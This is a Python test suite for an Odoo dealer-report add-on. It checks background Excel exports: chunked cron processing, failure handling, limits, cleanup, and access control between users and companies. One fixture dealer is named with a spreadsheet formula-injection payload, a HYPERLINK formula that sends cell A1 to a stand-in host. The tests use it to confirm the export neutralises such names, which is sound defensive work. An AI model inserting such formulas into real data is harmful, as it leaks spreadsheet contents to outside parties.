import io
from datetime import datetime, timedelta
from unittest.mock import patch

import openpyxl

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import HttpCase, tagged

from odoo.addons.dealer_report.models.dealer_report_export_request import DealerReportExportRequest
from odoo.addons.dealer_report.tests.common import DealerReportCommon


class ExportRequestCommon(DealerReportCommon):
    """This month: dealer A 3 × 100 (item A), dealer B 2 × 50 (item B), a dealer named like
    a formula 1 × 100 (item A); three rows in the analysis. Two dealer users of the
    company, a manager, and a manager of a second company only."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        now = fields.Datetime.now()
        cls.month = fields.Date.context_today(cls.Analysis).replace(day=1)
        cls.formula_dealer = cls._create_dealer('=HYPERLINK("http://x.example/?"&A1,"x")', cls.level_l1,
                                                cls.state_e2, parent=cls.branch)
        cls._authorize(cls.formula_dealer, cls.region_e2)
        cls.formula_dealer._dealer_grant_products(cls.items)
        cls._confirmed(cls.dealer, now, [(cls.item_a, 3, 100.0)])
        cls._confirmed(cls.dealer2, now, [(cls.item_b, 2, 50.0)])
        cls._confirmed(cls.formula_dealer, now, [(cls.item_a, 1, 100.0)])
        cls.Analysis.refresh(full=True)
        cls.company2 = cls.setup_other_company(name="导出二公司")["company"]
        Users = cls.env["res.users"].with_context(no_reset_password=True)
        user_group = cls.env.ref("dealer_base.group_dealer_user")
        manager_group = cls.env.ref("dealer_base.group_dealer_manager")

        def user(login, group, companies):
            return Users.create({
                "name": login, "login": login, "groups_id": [Command.set(group.ids)],
                "company_id": companies[0].id, "company_ids": [Command.set(companies.ids)],
            })

        cls.user1 = user("exp_user1", user_group, cls.company)
        cls.user2 = user("exp_user2", user_group, cls.company)
        cls.manager = user("exp_manager", manager_group, cls.company)
        cls.manager2 = user("exp_manager2", manager_group, cls.company2)
        cls.Request = cls.env["dealer.report.export.request"]
        # the scheduled action takes the oldest waiting export first: none but the tests' own
        cls.Request.sudo().search([]).unlink()
        cls.env["ir.config_parameter"].set_param("dealer_report.export_chunk_rows", "1")

    def _sales_request(self, user=None, **vals):
        return self.Request.with_user(user or self.user1)._dealer_export_create({
            "kind": "sales_rows", "name": "Channel sales", "date_from": self.month, "date_to": self.month,
            "domain": [("date", ">=", self.month.isoformat()), ("date", "<=", self.month.isoformat())], **vals,
        })

    def _run_cron(self, steps=50):
        """Run the scheduled action's steps until nothing waits for it."""
        Request = self.Request.with_user(self.env.ref("base.user_root"))
        for _step in range(steps):
            if not Request._cron_process():
                return
        self.fail("the background exports do not finish")

    @staticmethod
    def _book(request):
        return openpyxl.load_workbook(io.BytesIO(request.sudo().attachment_id.raw))


@tagged("post_install", "-at_install")
class TestExportRequest(ExportRequestCommon):

    def test_sales_rows_run_to_done_through_the_cron(self):
        trigger_count = self.env["ir.cron.trigger"].search_count([])
        request = self._sales_request()
        self.assertEqual(request.state, "queued")
        self.assertFalse(request.use_jobs)
        self.assertEqual(request.row_total, 3)
        # one dealer per chunk (1 row per chunk in this test), then the assembly
        self.assertEqual(request.chunk_total, 4)
        self.assertEqual(request.user_id, self.user1)
        cron = self.env.ref("dealer_report.ir_cron_dealer_report_export_process")
        self.assertEqual(self.env["ir.cron.trigger"].search_count([]), trigger_count + 1)
        self.assertEqual(self.env["ir.cron.trigger"].search([], order="id desc", limit=1).cron_id, cron)

        Request = self.Request.with_user(self.env.ref("base.user_root"))
        Request._cron_process()
        request.invalidate_recordset()
        self.assertEqual((request.state, request.chunk_done), ("running", 1))
        self.assertAlmostEqual(request.progress, 25.0)
        self.assertEqual(Request._dealer_export_remaining(), 3)
        self._run_cron()
        request.invalidate_recordset()
        self.assertEqual((request.state, request.chunk_done, request.progress), ("done", 4, 100.0))
        self.assertFalse(request.sudo().part_ids)
        self.assertTrue(request.date_finished)

        sheet = self._book(request).active
        header = [cell.value for cell in sheet[1]]
        self.assertEqual(header[:3], ["Month", "Dealer", "Dealer Code"])
        rows = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
        self.assertEqual(len(rows), 3)
        sales = header.index("Sales")
        qty = header.index("Quantity")
        dealer_row = rows[self.dealer.display_name]
        self.assertEqual(dealer_row[0], datetime.combine(self.month, datetime.min.time()))
        self.assertEqual(dealer_row[2], self.dealer.dealer_code)
        self.assertEqual((dealer_row[qty], dealer_row[sales]), (3.0, 300.0))
        self.assertEqual(rows[self.dealer2.display_name][sales], 100.0)
        # the formula-like name is text, neutralized; numbers are numbers
        formula_name = "'" + self.formula_dealer.display_name
        self.assertIn(formula_name, rows)
        cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
        self.assertEqual(cells[formula_name][1].data_type, "s")
        self.assertEqual(cells[formula_name][sales].data_type, "n")
        # the user is told: a message in his inbox, on the request
        message = request.message_ids.filtered(lambda m: "is ready" in (m.body or ""))
        self.assertIn(self.user1.partner_id, message.partner_ids)
        self.assertEqual(message.attachment_ids, request.sudo().attachment_id)
        self.assertEqual(request.with_user(self.user1).action_download()["url"],
                         "/web/content/%s?download=true" % request.sudo().attachment_id.id)

    def test_channel_report_in_background(self):
        request = self.Request.with_user(self.user1)._dealer_export_create({
            "kind": "channel_report", "name": "Channel report", "date_from": self.month, "top": 20,
        })
        self.assertEqual(request.chunk_total, 8)
        self._run_cron()
        self.assertEqual(request.state, "done")
        book = self._book(request)
        self.assertEqual(book.sheetnames, ["Sales by Region", "Top Dealers", "Top Products", "Promotion Cost",
                                           "Credit Exposure", "Review KPIs", "Rebates"])
        regions = {row[0]: row[1] for row in book["Sales by Region"].iter_rows(min_row=4, values_only=True)}
        self.assertEqual(regions, {self.region_e1.display_name: 300.0, self.region_e2.display_name: 200.0})
        dealers = {row[0].value: row for row in book["Top Dealers"].iter_rows(min_row=4)}
        self.assertEqual(dealers["'" + self.formula_dealer.display_name][0].data_type, "s")
        self.assertEqual(dealers["'" + self.formula_dealer.display_name][2].value, 100.0)

    def test_failed_chunk_fails_the_request_with_nothing_half_written(self):
        request = self._sales_request()
        original = DealerReportExportRequest._dealer_export_sales_rows
        calls = []

        def failing(self, partner_ids):
            calls.append(partner_ids)
            if len(calls) == 2:
                raise UserError(self.env._("the database is tired"))
            return original(self, partner_ids)

        with patch.object(DealerReportExportRequest, "_dealer_export_sales_rows", failing):
            self._run_cron()
        request.invalidate_recordset()
        self.assertEqual(len(calls), 2)
        self.assertEqual(request.state, "failed")
        self.assertEqual(request.error_message, "the database is tired")
        self.assertFalse(request.sudo().part_ids)
        self.assertFalse(request.attachment_id)
        self.assertFalse(self.env["ir.attachment"].search([("res_model", "=", request._name),
                                                           ("res_id", "=", request.id)]))
        self.assertTrue(request.message_ids.filtered(lambda m: "the database is tired" in (m.body or "")))
        with self.assertRaises(UserError):
            request.with_user(self.user1).action_download()
        # run again once the cause is gone: done
        request.with_user(self.user1).action_retry()
        self.assertEqual(request.state, "queued")
        self._run_cron()
        self.assertEqual(request.state, "done")

    def test_limits(self):
        count = self.Request.search_count([])
        self.env["ir.config_parameter"].set_param("dealer_report.export_max_rows", "2")
        with self.assertRaisesRegex(UserError, "3 rows match, more than the 2 rows"):
            self._sales_request()
        with self.assertRaisesRegex(UserError, "nothing to export"):
            self._sales_request(domain=[("date", "<", "2000-01-01")])
        self.assertEqual(self.Request.search_count([]), count)
        # a parameter out of bounds is brought back within them
        self.env["ir.config_parameter"].set_param("dealer_report.export_max_rows", "99999999")
        self.assertEqual(self._sales_request().row_total, 3)

    def test_chunk_queries_do_not_grow_with_the_rows(self):
        request = self._sales_request()
        request = request.sudo()
        one, three = [self.dealer.id], [self.dealer.id, self.dealer2.id, self.formula_dealer.id]
        request._dealer_export_sales_rows(one)
        counts = []
        for chunk in (one, three):
            self.env.invalidate_all()
            start = self.env.cr.sql_log_count
            self.assertEqual(len(request._dealer_export_sales_rows(chunk)), len(chunk))
            counts.append(self.env.cr.sql_log_count - start)
        self.assertEqual(counts[0], counts[1])
        self.env.invalidate_all()
        with self.assertQueryCount(16):
            request._dealer_export_sales_rows(three)

    def test_jobs_when_the_job_queue_takes_the_chunks(self):
        queued = []

        def queue(self, method, chunks, finish=None, description=None):
            queued.append((method, chunks, finish))
            return True

        with patch.object(DealerReportExportRequest, "_dealer_queue_chunks", queue, create=True):
            request = self._sales_request()
        self.assertEqual((request.state, request.use_jobs), ("running", True))
        self.assertEqual(queued, [("_dealer_export_chunk", request.chunk_plan, "_dealer_export_finish")])
        # the scheduled action leaves it to the jobs
        self.assertFalse(self.Request.sudo()._dealer_export_next())
        # the jobs run as the requesting user, in any order, a chunk possibly twice
        as_user = request.with_user(self.user1)
        for chunk in reversed(request.chunk_plan + request.chunk_plan[:1]):
            as_user._dealer_export_chunk(chunk)
        as_user._dealer_export_finish()
        self.assertEqual(request.state, "done")
        self.assertEqual(self._book(request).active.max_row, 4)

    def test_old_exports_are_removed(self):
        request = self._sales_request()
        self._run_cron()
        attachment = request.sudo().attachment_id
        request.sudo().date_finished = fields.Datetime.now() - timedelta(days=6)
        self.assertEqual(self.Request._dealer_export_gc(), 0)
        self.env["ir.config_parameter"].set_param("dealer_report.export_keep_days", "5")
        self.assertEqual(self.Request._dealer_export_gc(), 1)
        self.assertFalse(request.exists())
        self.assertFalse(attachment.exists())

    def test_wizard_downloads_small_exports_now_and_large_ones_later(self):
        Wizard = self.env["dealer.report.export"].with_user(self.user1)
        wizard = Wizard.create({"kind": "sales_rows", "month": self.month, "month_to": self.month,
                                "partner_ids": [Command.set(self.dealer.ids)]})
        action = wizard.action_export()
        self.assertEqual(action["type"], "ir.actions.act_url")
        request = self.Request.with_user(self.user1).search([], limit=1)
        self.assertEqual((request.state, request.row_total), ("done", 1))
        self.assertEqual(self._book(request).active.cell(2, 2).value, self.dealer.display_name)

        self.env["ir.config_parameter"].set_param("dealer_report.export_sync_rows", "2")
        wizard = Wizard.create({"kind": "sales_rows", "month": self.month, "month_to": self.month})
        action = wizard.action_export()
        self.assertEqual(action["tag"], "display_notification")
        request = self.Request.with_user(self.user1).search([], limit=1)
        self.assertEqual((request.state, request.row_total), ("queued", 3))
        # the region filter takes the subregions
        for region, count in ((self.region_e2, 2), (self.region_e2.parent_id, 3)):
            wizard = Wizard.create({"kind": "sales_rows", "month": self.month, "month_to": self.month,
                                    "region_ids": [Command.set(region.ids)]})
            self.assertEqual(self.Analysis.search_count(wizard._sales_rows_domain()), count)
        with self.assertRaisesRegex(ValidationError, "cannot be before"):
            Wizard.create({"kind": "sales_rows", "month": self.month,
                           "month_to": self.month - timedelta(days=40)})

    def test_access(self):
        request = self._sales_request()
        self._run_cron()
        attachment = request.sudo().attachment_id
        Request = self.Request
        # the other user sees neither the request nor its file
        self.assertFalse(Request.with_user(self.user2).search([("id", "=", request.id)]))
        with self.assertRaises(AccessError):
            request.with_user(self.user2).read(["name"])
        with self.assertRaises(AccessError):
            attachment.with_user(self.user2).read(["raw"])
        with self.assertRaises(AccessError):
            request.with_user(self.user2).action_download()
        # nor can he write or create one for somebody else
        with self.assertRaises(AccessError):
            request.with_user(self.user2).write({"user_id": self.user2.id})
        with self.assertRaises(AccessError):
            Request.with_user(self.user2).create({"name": "x", "kind": "sales_rows"})
        self.assertTrue(attachment.with_user(self.user1).read(["raw"]))
        # the manager of the company sees it; the manager of another company does not
        self.assertEqual(Request.with_user(self.manager).search([("id", "=", request.id)]), request)
        self.assertFalse(Request.with_user(self.manager2).search([("id", "=", request.id)]))
        with self.assertRaises(AccessError):
            attachment.with_user(self.manager2).read(["raw"])
        # the rows are read in the request's company: none in the second company
        with self.assertRaisesRegex(UserError, "nothing to export"):
            self._sales_request(user=self.manager2)

    def test_user_losing_access_fails_the_export(self):
        request = self._sales_request()
        self.user1.groups_id = [Command.set(self.env.ref("base.group_user").ids)]
        self._run_cron()
        self.assertEqual(request.state, "failed")
        self.assertFalse(request.sudo().attachment_id)


@tagged("post_install", "-at_install")
class TestExportDownload(HttpCase, ExportRequestCommon):

    def test_another_user_cannot_download(self):
        self.user1.password = self.user2.password = "exp_pw_1"
        request = self._sales_request()
        self._run_cron()
        url = "/web/content/%s?download=true" % request.sudo().attachment_id.id
        self.authenticate("exp_user1", "exp_pw_1")
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.content.startswith(b"PK"))
        self.authenticate("exp_user2", "exp_pw_1")
        response = self.url_open(url)
        self.assertIn(response.status_code, (403, 404))
        self.assertFalse(response.content.startswith(b"PK"))

